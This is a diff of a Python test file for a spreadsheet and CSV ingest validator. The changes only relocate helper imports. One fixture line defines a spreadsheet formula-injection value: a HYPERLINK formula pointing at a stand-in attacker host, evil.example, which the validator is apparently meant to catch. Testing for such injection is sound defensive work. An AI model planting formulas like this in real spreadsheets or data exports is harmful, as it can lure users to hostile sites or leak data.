@@ -11,7 +11,7 @@ import pytest
 
 from pipeline.ingest.fields import CampaignSchema, parse_example
 from pipeline.ingest.validate.checks import Validator, dropdown_choices
-from tests.stages.helpers import PHONE_RE, run
+from tests.ingest.stage_helpers import PHONE_RE, run
 
 HEADER = ["Navn", "Tlf.", "Postnr", "Født", "By", "Notes"]
 FORMULA_CITY = '=HYPERLINK("http://evil.example/?x","click")'
@@ -205,7 +205,7 @@ def test_pipelined_validation_gives_the_same_results_and_stops_cleanly(tmp_path:
     """validate_all (checks of the next chunk in a helper thread) == validate chunk by chunk."""
     from pipeline.ingest.map import map_columns
     from pipeline.ingest.read.open import open_table
-    from tests.stages.helpers import OPTIONS, SCHEMA, SPECS
+    from tests.ingest.stage_helpers import OPTIONS, SCHEMA, SPECS
 
     path = write_messy(tmp_path / "messy.csv")
     with path.open("ab") as f:  # repeat a few rows so duplicates cross chunk borders
@@ -250,7 +250,7 @@ def test_pipelined_validation_gives_the_same_results_and_stops_cleanly(tmp_path:
 
 
 def test_xlsx_numbers_and_dates_flagged_not_repaired(tmp_path: Path) -> None:
-    from tests.stages.test_reading import make_xlsx
+    from tests.ingest.read.test_reading import make_xlsx
 
     result = run(make_xlsx(tmp_path / "x.xlsx"))
     assert result.triples() == [
